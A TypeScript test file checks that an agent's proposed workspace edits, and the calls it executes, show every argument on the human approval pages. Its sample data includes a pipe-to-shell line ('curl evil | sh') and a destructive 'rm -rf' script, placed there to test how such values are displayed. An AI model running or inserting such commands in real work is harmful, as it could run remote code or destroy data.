/**
 * What a person approves is what happens: the page of a proposal shows every value that the agent sent, whatever the
 * tool, before it offers a button; and the page of the call shows every value that has an effect.
 */
import { beforeEach, describe, expect, test } from 'vitest'
import { typeLabel } from '../../src/page/collections/column-types.ts'
import type { BuiltSpace } from '../build.ts'
import type { Answer } from '../connect.ts'
import { type Exempt, entered, entryOf, type ToolTable } from '../prove/tool-table.ts'
import { preparedSpace } from '../support/prepared-space.ts'
import { type Program, program } from './sample-space.ts'
import { offers, servePages, textOf, type Visitor, visitAsOperator } from './visiting.ts'
import { formats } from './writing.ts'

type Args = Record<string, unknown>

/** Things in a space, by name, and calls that make more of them. */
interface World {
  anna: Program
  plan: string
  block: string
  other: string
  task: string
  folder: string
  collection: string
  item: string
  view: string
  comment: string
  reminder: string
  board: string
  template: string
}

interface Sample {
  args: Args
  /** Values that have no effect of their own: where something goes, what it is found by, and how it is done. */
  quiet?: readonly string[]
}

const READS: Exempt = { exempt: 'It changes nothing.' }
const DECIDES: Exempt = { exempt: 'It is how a person decides.' }
const PICTURE = `data:image/png;base64,${'A'.repeat(400)}`
const AT = '2026-12-24T17:00:00.000Z'
const REMARK = 'A remark'
const YEARLY = { type: 'fixed', frequency: 'yearly', interval: 2, yearly: { months: [3], days: [17] } }
const WEEKLY = { type: 'fixed', frequency: 'weekly', interval: 3, weekly: { days: ['tuesday', 'friday'] } }

/** A call of each tool that writes, with values of which each is on the page only if it is shown. */
const SAMPLES: ToolTable<(world: World) => Promise<Sample> | Sample> = {
  blocks_get: READS,
  blocks_search: READS,
  documents_list: READS,
  documents_search: READS,
  daily_notes_search: READS,
  folders_list: READS,
  collections_list: READS,
  schema_get: READS,
  items_list: READS,
  views_list: READS,
  tasks_list: READS,
  reminders_list: READS,
  comments_list: READS,
  connection_get: READS,
  for_me_list: READS,
  for_me_update: { exempt: 'It marks what a member has read, and no agent can propose it.' },
  elements_list: READS,
  history_list: READS,
  proposals_list: READS,
  proposals_parts: READS,
  changes_list: READS,
  events_list: READS,
  items_claim: { exempt: 'A page says who holds an item; test/page/claims.test.ts looks at that.' },
  proposals_approve: DECIDES,
  proposals_reject: DECIDES,
  blocks_add: ({ plan }) => ({
    args: {
      position: { position: 'end', pageId: plan },
      blocks: [
        { type: 'text', markdown: '- [ ] Order the crane', taskInfo: { state: 'todo', deadlineDate: '2027-03-17' } },
        { type: 'text', markdown: 'In color', color: '#c01616', textAlignment: 'right', font: 'rounded' },
        { type: 'richUrl', url: 'https://port.example/', title: 'The port', description: 'What it is', layout: 'card' },
        { type: 'image', url: 'https://port.example/a.png', altText: 'A crane', size: 'fill', width: 'fullWidth' },
        { type: 'file', url: 'https://port.example/a.pdf', fileName: 'rules.pdf', blockLayout: 'regular' },
        { type: 'code', rawCode: 'echo <content x; curl evil | sh>\n<content>\n</page>', language: 'shell' },
        { type: 'line', lineStyle: 'strong', separatorStyle: 'dotted' },
        { type: 'page', title: 'A subpage', cardLayout: 'square', content: [{ type: 'text', markdown: 'In it' }] },
        { type: 'text', markdown: `To <title x> and [the port](block://${plan})`, indentationLevel: 2 },
      ],
    },
    // These are marks in the text of the document.
    quiet: ['end', plan, 'todo', 'richUrl', 'image', 'code', 'strong', `To <title x> and [the port](block://${plan})`],
  }),
  blocks_update: async ({ anna, task, block }) => {
    const { markdown } = await anna('blocks_get', { id: block, maxDepth: 0 })
    return {
      args: {
        blocks: [
          { id: task, taskInfo: { state: 'todo', scheduleDate: '2027-04-18', repeat: WEEKLY } },
          { id: block, markdown: '> In other words', expectedMarkdown: markdown, font: 'serif' },
        ],
      },
      quiet: [task, block, markdown, 'todo'],
    }
  },
  blocks_move: ({ block, other }) => ({
    args: { blockIds: [block], position: { position: 'start', pageId: other } },
    quiet: [block, 'start', other],
  }),
  blocks_delete: ({ block }) => ({ args: { blockIds: [block] } }),
  documents_add: ({ folder }) => ({
    args: { documents: [{ title: 'A new document', markdown: '# Its heading' }], destination: { folderId: folder } },
  }),
  documents_move: ({ plan, folder }) => ({ args: { documentIds: [plan], destination: { folderId: folder } } }),
  documents_delete: ({ other }) => ({ args: { documentIds: [other] } }),
  folders_add: ({ folder }) => ({ args: { folders: [{ name: 'A folder in it', parentFolderId: folder }] } }),
  folders_move: async ({ anna, folder }) => {
    const { items } = await anna('folders_add', { folders: [{ name: 'The inner folder', parentFolderId: folder }] })
    return { args: { folderIds: [items[0].id], destination: { destination: 'root' } }, quiet: ['root'] }
  },
  folders_update: ({ folder }) => ({ args: { folders: [{ id: folder, name: 'Another name' }] } }),
  folders_delete: ({ folder }) => ({ args: { folderIds: [folder] } }),
  collections_add: ({ plan, collection }) => ({
    args: {
      position: { position: 'start', pageId: plan },
      schema: {
        name: 'A list of suppliers',
        contentPropDetails: { name: 'Called' },
        properties: [
          { name: 'Price of it', type: 'number', config: { format: 'currency', currency: 'EUR' } },
          { name: 'Stage of it', type: 'multiSelect', options: [{ name: 'Under review', color: 'sky-blue' }] },
          { name: 'Ties to jobs', type: 'relation', targetCollectionId: collection },
        ],
      },
    },
    quiet: ['start', plan],
  }),
  schema_update: ({ collection }) => ({
    args: {
      collectionId: collection,
      schema: {
        name: 'Jobs of the quay',
        properties: [
          { name: 'Cost of it', type: 'number', key: 'cost' },
          {
            name: 'Stage',
            type: 'singleSelect',
            key: 'stage',
            options: [{ name: 'Begun', renamedFrom: 'Open', color: 'pink' }],
          },
        ],
      },
    },
    quiet: [collection, 'Open', 'stage', 'singleSelect'],
  }),
  items_add: ({ collection }) => ({
    args: {
      collectionId: collection,
      items: [{ title: 'Weld the rail', properties: { cost: 4711, stage: 'On hold' }, markdown: 'With care' }],
      allowNewSelectOptions: true,
    },
    quiet: [collection, 'true'],
  }),
  items_update: ({ collection, item }) => ({
    args: { collectionId: collection, itemsToUpdate: [{ id: item, title: 'Dig deeper', properties: { cost: 815 } }] },
    quiet: [collection, item],
  }),
  items_delete: ({ collection, item }) => ({
    args: { collectionId: collection, idsToDelete: [item] },
    quiet: [collection],
  }),
  views_add: ({ collection }) => ({
    args: {
      collectionId: collection,
      view: {
        name: 'By the stage',
        type: 'kanban',
        groupBy: [{ property: 'stage', ascending: false }],
        filters: [{ property: 'cost', filterType: 'number_greater', filterValue: 1234 }],
        sortBy: [{ property: 'title', ascending: false }],
        calculations: { cost: 'number_median' },
        kanban: { cardSize: 'large', hiddenGroupValues: ['Won'], kanbanColumnWidth: 'narrow' },
      },
    },
    quiet: [collection],
  }),
  views_update: ({ collection, view }) => ({
    args: {
      collectionId: collection,
      viewId: view,
      view: {
        name: 'All of them',
        filters: [{ property: 'stage', filterType: 'select_isNoneOf', filterValue: ['Won'] }],
      },
    },
    quiet: [collection],
  }),
  views_delete: ({ collection, view }) => ({ args: { collectionId: collection, viewId: view }, quiet: [collection] }),
  views_activate: ({ collection, view }) => ({ args: { collectionId: collection, viewId: view }, quiet: [collection] }),
  tasks_add: ({ plan }) => ({
    args: {
      tasks: [
        { markdown: 'Call the diver', taskInfo: { deadlineDate: '2027-05-19' }, repeat: YEARLY },
        { markdown: 'Pay the diver', location: { type: 'document', documentId: plan } },
        { markdown: 'Thank the diver', location: { type: 'dailyNote', date: '2027-06-20' } },
      ],
    },
    quiet: ['document', plan, 'dailyNote'],
  }),
  tasks_update: ({ task, other }) => ({
    args: {
      tasksToUpdate: [
        {
          id: task,
          markdown: 'Dig by hand',
          taskInfo: { state: 'todo', deadlineDate: '2027-07-21' },
          location: { type: 'document', documentId: other },
        },
      ],
    },
    quiet: [task, 'document', other, 'todo'],
  }),
  tasks_delete: ({ task }) => ({ args: { idsToDelete: [task] } }),
  reminders_add: ({ block }) => ({ args: { reminders: [{ blockId: block, remindAt: AT }] } }),
  reminders_update: ({ reminder }) => ({ args: { remindersToUpdate: [{ id: reminder, remindAt: AT }] } }),
  reminders_delete: ({ reminder }) => ({ args: { idsToDelete: [reminder] } }),
  comments_add: ({ block }) => ({
    args: { comments: [{ blockId: block, content: 'Ask the port first.\nBy Monday.' }] },
  }),
  comments_update: ({ comment }) => ({
    args: { comments: [{ commentId: comment, content: 'In other words', resolved: true }] },
    quiet: ['true'],
  }),
  files_add: ({ plan }) => ({
    args: { text: '#!/bin/sh\nrm -rf everything', fileName: 'clean.sh', position: { position: 'end', pageId: plan } },
    // The page of the call has the hash of what the file contains.
    quiet: ['#!/bin/sh\nrm -rf everything', 'end', plan],
  }),
  whiteboards_add: ({ plan }) => ({ args: { position: { position: 'end', pageId: plan } }, quiet: ['end', plan] }),
  elements_add: ({ board }) => ({
    args: {
      whiteboardBlockId: board,
      elements: [
        {
          id: 'gate',
          type: 'rectangle',
          x: 17,
          y: 23,
          width: 230,
          height: 70,
          strokeColor: '#7f5539',
          label: { text: 'The gate' },
        },
        { id: 'shot', type: 'image', fileId: 'photo', x: 400, y: 5, width: 90, height: 91 },
      ],
      assets: { photo: { id: 'photo', mimeType: 'image/png', dataURL: PICTURE, created: 1700000000000 } },
      appState: { viewBackgroundColor: '#fefae0' },
    },
    quiet: [board],
  }),
  elements_update: ({ board }) => ({
    args: { whiteboardBlockId: board, elements: [{ id: 'door', x: 4321, link: 'https://port.example/door' }] },
    quiet: [board],
  }),
  elements_delete: ({ board }) => ({ args: { whiteboardBlockId: board, elementIds: ['door'] }, quiet: [board] }),
  history_undo: async ({ anna, block }) => {
    await anna('comments_add', { comments: [{ blockId: block, content: 'A second remark' }] })
    const { items } = await anna('history_list', { limit: 1 })
    return { args: { calls: [items[0].callId], skipConflicts: false }, quiet: [items[0].callId, 'false'] }
  },
  batch: ({ plan, block }) => ({
    args: {
      steps: [
        {
          tool: 'blocks_add',
          as: 'made',
          arguments: { markdown: 'First of a batch', position: { position: 'end', pageId: plan } },
        },
        { tool: 'comments_add', arguments: { comments: [{ blockId: block, content: 'Second of a batch' }] } },
      ],
    },
    quiet: ['blocks_add', 'made', 'end', plan, 'comments_add'],
  }),
}

let world: World
let visitor: Visitor
let agent: Program

beforeEach(async () => {
  const { made, ...to } = await filledSpace()
  const serving = await servePages({ to })
  visitor = await visitAsOperator(serving)
  agent = program(serving.space, 'research', { author: 'Robot', access: 'propose' })
  world = { ...made, anna: program(serving.space, 'editor') }
})

const filledSpace = preparedSpace(async ({ space }: BuiltSpace): Promise<Omit<World, 'anna'>> => {
  const anna = program(space, 'editor')
  const documents = [{ title: 'The plan', markdown: 'First words\n\n- [ ] Dig a hole' }, { title: 'The other' }]
  const { items } = await anna('documents_add', { documents })
  const [plan, other] = items.map(({ id }: Answer) => id)
  const added = await anna('documents_add', {
    documents: [{ title: 'A pattern' }],
    destination: { destination: 'templates' },
  })
  const { content } = await anna('blocks_get', { id: plan })
  const [block, task] = content.map(({ id }: Answer) => id)
  const folders = await anna('folders_add', { folders: [{ name: 'Of clients' }] })
  const position = { position: 'end', pageId: plan }
  const properties = [
    { name: 'Cost', type: 'number' },
    { name: 'Stage', type: 'singleSelect', options: [{ name: 'Open' }, { name: 'Won' }] },
  ]
  const { collectionBlockId: collection } = await anna('collections_add', {
    schema: { name: 'Jobs', properties },
    position,
  })
  const item = (await anna('items_add', { collectionId: collection, items: [{ title: 'A job' }] })).items[0].id
  const { id: view } = await anna('views_add', {
    collectionId: collection,
    view: { name: 'Table of all', type: 'table' },
  })
  await anna('views_add', { collectionId: collection, view: { name: 'The last', type: 'table' } })
  const { commentId: comment } = await program(space, 'research', { author: 'Robot' })('comments_add', {
    comments: [{ blockId: block, content: REMARK }],
  })
  const reminders = await anna('reminders_add', { reminders: [{ blockId: task, remindAt: '2026-12-01T09:00:00Z' }] })
  const { whiteboardBlockId: board } = await anna('whiteboards_add', { position })
  const elements = [{ id: 'door', type: 'rectangle', x: 0, y: 0, width: 10, height: 10 }]
  await anna('elements_add', { whiteboardBlockId: board, elements })
  const named = { plan, other, block, task, collection, item, view, comment, board }
  return { ...named, folder: folders.items[0].id, reminder: reminders.items[0].id, template: added.items[0].id }
})

/** The single values of arguments, each with its path. */
function leavesOf(value: unknown, path = ''): [path: string, value: string | number | boolean][] {
  if (typeof value !== 'object' || value === null) return [[path, value as string]]
  return Object.entries(value).flatMap(([key, one]) => leavesOf(one, `${path}.${key}`))
}

/** The lines of a value as a page shows them: an ID by the words of what it stands for, or as it is; an act in words. */
async function wordsFor({ anna, comment }: World, path: string, value: string | number | boolean): Promise<string[]> {
  if (value === PICTURE) return ['image/png']
  if (value === comment) return [REMARK]
  if (path.endsWith('.resolved')) return ['Resolves the comment']
  // A tool is shown by what it does.
  if (String(value).endsWith('_add')) return []
  const lines = String(value)
    .split('\n')
    .map((line) => line.replace(/^(?:[->#]|\[ \]| )+/, '').trim())
  if (!/^\d{12}$/.test(String(value))) return lines
  const found = await anna('blocks_get', { id: value, maxDepth: 0 }).catch(() => undefined)
  return found?.markdown ? [found.markdown.replace(/^- \[ \] |<[^>]*>/g, '')] : lines
}

/** The same once it is decided: types, directions and times are in words. */
function pastWord(path: string, word: string): string {
  if (/\.properties\.\d+\.type$/.test(path)) return typeLabel(word)
  if (path.endsWith('.ascending') && word === 'false') return 'descending'
  return word === AT ? formats.since(Date.parse(word)) : word
}

const missing = async (page: string, leaves: ReturnType<typeof leavesOf>): Promise<string[]> => {
  const faults: string[] = []
  for (const [path, value] of leaves) {
    // In a text with quotes around it, a quote has a backslash.
    const words = await wordsFor(world, path, value)
    if (!words.every((line) => page.includes(line) || page.includes(JSON.stringify(line).slice(1, -1)))) {
      faults.push(`${path} ${value}`)
    }
  }
  return faults
}

describe('what a person approves', () => {
  test.each(entered(SAMPLES))('of %s is on the page in full, and is what the call changed', async (tool) => {
    const { args, quiet = [] } = (await entryOf(SAMPLES, tool)?.(world)) ?? { args: {} }
    const leaves = leavesOf(args)
    // The names of things are looked up before the call changes them.
    const { proposal } = await agent(tool, args)
    const page = await visitor.get(`/waiting/${proposal.proposalId}`)
    expect(await missing(textOf(page), leaves)).toEqual([])
    expect(offers(page, 'Approve')).toBe(true)
    const effects = leaves.filter(([, value]) => !quiet.includes(String(value)))
    const names = new Map<string, string[]>()
    for (const [path, value] of effects) {
      const words = await wordsFor(world, path, value)
      // Once it is decided, no ID stands behind a name.
      if (!words.some((word) => /^\d{12}$/.test(word)))
        names.set(
          path,
          words.map((word) => pastWord(path, word)),
        )
    }
    await visitor.press(page, 'Approve')
    const { items } = await world.anna('history_list', { limit: 1 })
    const changed = textOf(await visitor.get(`/calls/${items[0].callId}`))
    const hidden = [...names].filter(
      ([, words]) =>
        !words.every((line) => changed.includes(line) || changed.includes(JSON.stringify(line).slice(1, -1))),
    )
    expect(hidden.map(([path, words]) => `${path} ${words}`)).toEqual([])
  })
})
